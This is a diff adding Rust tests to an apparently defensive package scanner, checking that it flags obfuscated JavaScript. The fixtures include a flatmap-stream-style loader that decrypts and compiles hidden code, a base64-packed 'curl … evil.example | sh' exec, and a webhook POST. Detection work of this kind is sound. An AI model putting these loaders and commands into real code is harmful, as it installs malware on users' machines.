@@ -332,3 +332,36 @@ fn escalation_with_exfiltration() {
     let obf = "function _0x5808() { const _0x1a2b3c = ['log', 'Hello', 'split']; _0x5808 = function () { return _0x1a2b3c; }; return _0x5808(); }\nfetch('https://discord.com/api/webhooks/1/a', {method: 'POST', body: _0x1a2b3c});\n";
     critical("index.js", obf);
 }
+
+#[test]
+fn module_compiled_from_decoded_text() {
+    let flatmap = "!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}var n=r(e(\"2e2f746573742f64617461\")),o=t[e(n[3])][e(n[4])];var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();\n";
+    let f = scan("index.min.js", flatmap);
+    assert!(
+        f.iter()
+            .any(|f| f.check == "scam.obfuscation" && f.severity == Severity::Critical),
+        "{f:?}"
+    );
+    // require-from-string: compiles its argument, no decoder.
+    let rfs = "module.exports = function requireFromString(code, filename) {\n  var m = new Module(filename, module.parent);\n  m.paths = Module._nodeModulePaths(path.dirname(filename));\n  m._compile(code, filename);\n  return m.exports;\n};\n";
+    assert!(scan("index.js", rfs).is_empty());
+}
+
+#[test]
+fn obfuscator_string_array_hiding_a_loader() {
+    let init = "var _0x4f2a=['Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==','Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g='];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f2a,0x1a3));var _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f2a[_0x2d8f05];return Buffer['from'](_0x4d74cb,'base64')['toString']('utf8');};var _0x1c9e=require(_0x4d74('0x0'));_0x1c9e[_0x4d74('0x1')](_0x4d74('0x2'));\n";
+    let f = scan("lib/init.js", init);
+    assert!(
+        f.iter()
+            .any(|f| f.check == "scam.obfuscation" && f.severity == Severity::Critical),
+        "{f:?}"
+    );
+    // The same packing over UI strings: obfuscated, not a loader.
+    let ui = init.replace("Y2hpbGRfcHJvY2Vzcw==", "SGVsbG8=").replace(
+        "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=",
+        "V29ybGQ=",
+    );
+    assert!(scan("lib/ui.js", &ui)
+        .iter()
+        .all(|f| f.severity < Severity::Critical));
+}
